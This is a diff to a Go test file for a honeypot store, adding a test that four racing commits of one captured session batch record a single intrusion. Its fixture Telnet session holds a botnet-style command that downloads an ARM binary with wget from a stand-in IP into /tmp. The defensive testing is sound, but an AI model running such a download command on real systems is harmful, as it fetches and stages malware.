@@ -8,6 +8,10 @@ import (
 	"sync"
 	"testing"
 	"time"
+
+	"github.com/honeyscope/honeyscope/internal/session"
+	"github.com/honeyscope/honeyscope/internal/store"
+	"github.com/honeyscope/honeyscope/internal/store/storetest"
 )
 
 // TestWritesOneAtATime: a second write transaction waits for the first
@@ -89,5 +93,33 @@ func TestRacingCommitsLand(t *testing.T) {
 	}
 	if ingests != 16 || packets != 16*5 {
 		t.Errorf("%d ingests, %d access packets in rollup_day; want 16 and %d", ingests, packets, 16*5)
+	}
+}
+
+// TestRacingSessionBatch: two collectors committing one session batch at
+// the same instant apply it once (the second finds it recorded): one
+// intrusion counted, not two.
+func TestRacingSessionBatch(t *testing.T) {
+	ctx := context.Background()
+	st := openSessions(t)
+	done := storetest.Telnet("a1", "hp1", srcA, t0, nil, "enable", "system", "wget http://198.51.100.9/bins/x.arm7 -O /tmp/x")
+	batch := []session.Session{done}
+	var wg sync.WaitGroup
+	errs := make(chan error, 4)
+	for range 4 {
+		wg.Go(func() {
+			hits := storetest.IntrusionHits("b1", "hp1", batch, st.Location())
+			errs <- st.CommitSessions(ctx, store.SessionBatch{ID: "b1", Sessions: batch, Hits: hits})
+		})
+	}
+	wg.Wait()
+	close(errs)
+	for err := range errs {
+		if err != nil && !errors.Is(err, store.ErrDuplicate) {
+			t.Errorf("commit: %v", err)
+		}
+	}
+	if n := intrusions(t, st); n != 1 {
+		t.Errorf("%d intrusions after 4 racing commits of one batch, want 1", n)
 	}
 }
